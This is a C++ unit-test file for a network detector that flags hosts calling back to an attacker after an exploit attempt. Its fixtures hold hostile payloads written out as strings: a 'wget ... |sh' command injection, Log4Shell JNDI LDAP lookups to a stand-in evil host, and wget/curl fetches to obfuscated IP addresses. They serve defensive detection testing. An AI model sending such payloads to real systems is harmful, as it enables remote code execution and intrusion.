#include "analytics/detectors/callback.h"

#include <gtest/gtest.h>

#include <list>
#include <memory>
#include <string>

#include "dissectors/protocols/dns/dns.h"
#include "dissectors/protocols/http/http.h"
#include "tests/analytics/scene.h"
#include "tests/dissectors/dns/dns_wire.h"

namespace lapwing::analytics {
namespace {

using test::Ends;
using test::Scene;

const RuleInfo kExploit{.sid = 1, .msg = "exploit", .category = "Attempted Administrator Privilege Gain"};
const RuleInfo kPolicy{.sid = 2, .msg = "policy", .category = "Potential Corporate Privacy Violation"};

struct Body : CarriedFile {
  explicit Body(std::string text) : bytes(std::move(text)) {}
  Bytes content() const override { return to_bytes(bytes); }
  std::string sha256() const override { return {}; }
  FileStage stage() const override { return FileStage::over; }
  const void* self() const override { return this; }
  std::string bytes;
};

std::string elf() {
  return "\x7f"
         "ELF" +
         std::string(200, '\0');
}

class CallbackScene : public Scene {
 public:
  CallbackScene& at(double seconds) {
    Scene::at(seconds);
    return *this;
  }
  CallbackScene& attack(const Ends& ends, const RuleInfo& rule = kExploit, const std::string& payload = {},
                        Direction direction = Direction::to_server) {
    alert(flow(ends), rule, payload, direction);
    return *this;
  }
  CallbackScene& call(const Ends& ends) {
    tell(flow(ends), {.moment = FlowMoment::answered, .all_packets = {1, 1}});
    return *this;
  }
  CallbackScene& fetch(const Ends& ends, const std::string& content, Direction direction = Direction::to_client) {
    const FlowRef of = flow(ends);
    const auto body = std::make_shared<Body>(content);
    show(pair(of.client, of.server), [of, body, direction, time = now()](AnyLocal& local, uint32_t) {
      const Event event{.protocol = &http::Http::protocol,
                        .direction = direction,
                        .record = &http::Http::protocol.records[1],
                        .file = body.get()};
      local.event({event, &of, time, of.client, of.server});
    });
    return *this;
  }
  std::vector<Behaviour> found() const { return Scene::found(*detector<Callback>().read(OptionSource())); }
};

constexpr std::string_view kAttacker = "198.51.100.7";
const Ends kAttack{"198.51.100.7", "10.0.0.5", 80}, kBack{"10.0.0.5", "198.51.100.7", 4444},
    kOther{"10.0.0.5", "203.0.113.9", 8000};

TEST(CallbackTest, TheAttackedHostCallsTheAttacker) {
  const auto found = CallbackScene().attack(kAttack).at(5).call(kBack).found();
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].subject, "10.0.0.5");
  EXPECT_EQ(found[0].objects, std::vector<std::string>{std::string(kAttacker)});
  EXPECT_EQ(level_of(found[0].severity, found[0].confidence), FindingLevel::low) << "alone";
  ASSERT_EQ(found[0].attack.size(), 1u);
  EXPECT_EQ(found[0].attack[0].id, "T1203");
  EXPECT_EQ(found[0].flows.size(), 2u);
}

TEST(CallbackTest, WhatIsNone) {
  EXPECT_TRUE(CallbackScene().attack(kAttack).at(70).call(kBack).found().empty()) << "too late";
  EXPECT_TRUE(CallbackScene().at(5).attack(kAttack).at(4).call(kBack).found().empty()) << "before it";
  EXPECT_TRUE(CallbackScene().call(kBack).at(50).attack(kAttack).at(55).call(kBack).found().empty()) << "as it did";
  EXPECT_TRUE(CallbackScene().attack(kAttack).at(5).call(kOther).found().empty()) << "somebody else";
  EXPECT_TRUE(CallbackScene().attack(kAttack, kPolicy).at(5).call(kBack).found().empty()) << "no attack";
  EXPECT_TRUE(CallbackScene().attack(kAttack).at(5).call(kAttack).found().empty()) << "the attacker again";
  auto data = kBack;
  data.client_port = 20;
  EXPECT_TRUE(CallbackScene().attack(kAttack).at(5).call(data).found().empty()) << "data of FTP";
}

TEST(CallbackTest, ItCallsWhoIsNamedInTheAttack) {
  const std::string payload = "cmd=;wget http://203.0.113.9:8000/x|sh";
  const auto found = CallbackScene().attack(kAttack, kExploit, payload).at(5).call(kOther).found();
  ASSERT_EQ(found.size(), 2u);
  EXPECT_NE(found[0].evidence.find(R"("named_in_attack":true)"), std::string::npos) << found[0].evidence;
  EXPECT_EQ(found[0].objects.at(1), "203.0.113.9");
  EXPECT_EQ(
      CallbackScene().attack(kAttack, kExploit, std::string(5000, 'x') + payload).at(5).call(kOther).found().size(), 2u)
      << "however much it says before";
}

/// What the attacked host asks for, and whom it calls under a name.
class NamedScene : public CallbackScene {
 public:
  NamedScene& attack(const std::string& payload, uint16_t port = 80) {
    CallbackScene::attack({"198.51.100.7", "10.0.0.5", port}, kExploit, payload);
    return *this;
  }
  NamedScene& at(double seconds) {
    CallbackScene::at(seconds);
    return *this;
  }
  NamedScene& look_up(const std::string& name, std::string_view address = {}, const std::string& host = "10.0.0.5") {
    const FlowRef of = flow({host, "10.0.0.1", 53, 17});
    const auto count = static_cast<unsigned>(!address.empty());
    std::string wire = test::dns_header(1, 0x8180U, 1, count) + test::dns_question(test::dns_name(name), dns::kA);
    if (count) {
      const auto parsed = *IpAddress::parse(address);
      wire += test::dns_record(test::dns_pointer(12), dns::kA, std::string(to_text({parsed.bytes.data(), 4})));
    }
    const auto held = std::make_shared<const std::string>(std::move(wire));
    const auto tx = std::make_shared<dns::MessageTransaction>();
    EXPECT_TRUE(dns::parse(to_bytes(*held), tx->message)) << name;
    show(pair(of.client, of.server), [of, held, tx, time = now()](AnyLocal& local, uint32_t) {
      const Event event{.protocol = &dns::Dns::protocol,
                        .tx = tx.get(),
                        .direction = Direction::to_client,
                        .record = &dns::records()[0]};
      local.event({event, &of, time, of.client, of.server});
    });
    return *this;
  }
  NamedScene& name(const std::string& host) {
    FlowRef of = flow(kOther);
    of.host = names_.emplace_back(host);
    tell(of, {.moment = FlowMoment::answered, .all_packets = {1, 1}});
    tell(of, {.moment = FlowMoment::identified, .all_packets = {3, 3}});
    return *this;
  }

 private:
  std::list<std::string> names_;
};

TEST(CallbackTest, ItAsksForANameThatIsInTheAttack) {
  const std::string payload =
      "GET /?x=${jndi:ldap://CB.evil.example.net:1389/a} HTTP/1.1\r\nHost: www.example.com\r\n\r\n";
  const auto found = NamedScene().attack(payload).at(5).look_up("cb.evil.example.net").found();
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].objects.at(1), "cb.evil.example.net");
  EXPECT_NE(found[0].evidence.find(R"("stages":["attacked","looked_up"])"), std::string::npos) << found[0].evidence;
  EXPECT_EQ(level_of(found[0].severity, found[0].confidence), FindingLevel::low);
  const auto asked = [&](const std::string& name) {
    return NamedScene().attack(payload).at(5).look_up(name).found().size();
  };
  EXPECT_EQ(asked("secret.Cb.Evil.example.net"), 2u) << "with what it knows";
  EXPECT_EQ(asked("evil.example.net"), 0u) << "above it";
  EXPECT_EQ(asked("other.evil.example.net"), 0u);
  EXPECT_EQ(asked("www.example.com"), 0u) << "its own name";
  EXPECT_TRUE(NamedScene().attack(payload).at(70).look_up("cb.evil.example.net").found().empty()) << "too late";
  EXPECT_TRUE(NamedScene().look_up("cb.evil.example.net").at(1).attack(payload).found().empty()) << "before it";
  EXPECT_TRUE(NamedScene().attack(payload).at(5).look_up("cb.evil.example.net", {}, "10.0.0.6").found().empty());
  EXPECT_TRUE(NamedScene().attack(payload, 25).at(5).look_up("cb.evil.example.net").found().empty())
      << "a server of mail, for whoever is named as sender";
}

TEST(CallbackTest, ItCallsWhatANameInTheAttackStandsFor) {
  const std::string payload = "x=%24%7Bjndi%3Aldap%3A%2F%2Fcb.evil.example.net%2Fa%7D";
  auto found =
      NamedScene().attack(payload).at(5).look_up("cb.evil.example.net", "203.0.113.9").at(6).call(kOther).found();
  ASSERT_GE(found.size(), 2u);
  EXPECT_NE(found.back().evidence.find(R"("called":"203.0.113.9:8000","named_in_attack":true)"), std::string::npos)
      << found.back().evidence;
  EXPECT_EQ(level_of(found.back().severity, found.back().confidence), FindingLevel::low) << "both are one step";
  found = NamedScene().attack(payload).at(5).name("CB.evil.example.net").found();
  ASSERT_EQ(found.size(), 2u) << "nobody saw it ask";
  EXPECT_NE(found[0].evidence.find(R"("stages":["attacked","called_back"])"), std::string::npos);
  EXPECT_TRUE(NamedScene()
                  .name("cb.evil.example.net")
                  .at(20)
                  .attack(payload)
                  .at(25)
                  .name("cb.evil.example.net")
                  .found()
                  .empty())
      << "as it did";
  EXPECT_TRUE(NamedScene().attack(payload).at(5).name("other.example.net").found().empty());
}

TEST(CallbackTest, AddressesInOtherForms) {
  const auto called = [](const std::string& payload, const std::string& address) {
    return CallbackScene().attack(kAttack, kExploit, payload).at(5).call({"10.0.0.5", address, 8000}).found().size();
  };
  EXPECT_EQ(called("wget http://0xcb007109/x", "203.0.113.9"), 2u);
  EXPECT_EQ(called("wget http://3405803785/x", "203.0.113.9"), 2u);
  EXPECT_EQ(called("wget%20http%3a%2f%2f3405803785/x", "203.0.113.9"), 2u);
  EXPECT_EQ(called("curl http://[2001:db8::9]:8000/x", "2001:db8::9"), 2u);
  EXPECT_EQ(called("id=3405803785", "203.0.113.9"), 0u) << "a number";
}

TEST(CallbackTest, EachStepRaisesIt) {
  CallbackScene scene;
  scene.attack(kAttack).at(5).call(kBack).at(50).fetch(kOther, elf());
  auto found = scene.found();
  ASSERT_EQ(found.size(), 3u);
  EXPECT_EQ(level_of(found[1].severity, found[1].confidence), FindingLevel::medium);
  EXPECT_EQ(found[1].attack.size(), 2u);
  for (int i = 1; i <= 40; ++i) scene.at(60 * i).call(kBack);
  found = scene.found();
  EXPECT_GE(level_of(found.back().severity, found.back().confidence), FindingLevel::high);
  EXPECT_EQ(found.back().attack.size(), 3u);
}

TEST(CallbackTest, AProgramIsOneByItsContent) {
  const auto fetched = [](const std::string& content, double when, Direction direction = Direction::to_client) {
    return CallbackScene().attack(kAttack).at(when).fetch(kOther, content, direction).found().size();
  };
  EXPECT_EQ(fetched(elf(), 30), 2u);
  EXPECT_EQ(fetched("MZ" + std::string(100, 'x'), 30), 2u);
  EXPECT_EQ(fetched("MZ", 30), 0u) << "a word";
  EXPECT_EQ(fetched("<html>" + std::string(100, 'x'), 30), 0u);
  EXPECT_EQ(fetched(elf(), 90), 0u);
  EXPECT_EQ(fetched(elf(), 30, Direction::to_server), 0u) << "sent to a server";
  EXPECT_TRUE(CallbackScene().at(30).fetch(kOther, elf()).found().empty()) << "by a host that nobody attacked";
}

TEST(CallbackTest, FromAHostInsideItIsThatHostsDoing) {
  const auto found =
      CallbackScene().attack({"10.0.0.9", "10.0.0.5", 445}).at(2).call({"10.0.0.5", "10.0.0.9", 4444}).found();
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].subject, "10.0.0.9");
  EXPECT_EQ(found[0].objects.at(0), "10.0.0.5");
  EXPECT_EQ(found[0].attack.at(0).id, "T1210");
}

}  // namespace
}  // namespace lapwing::analytics
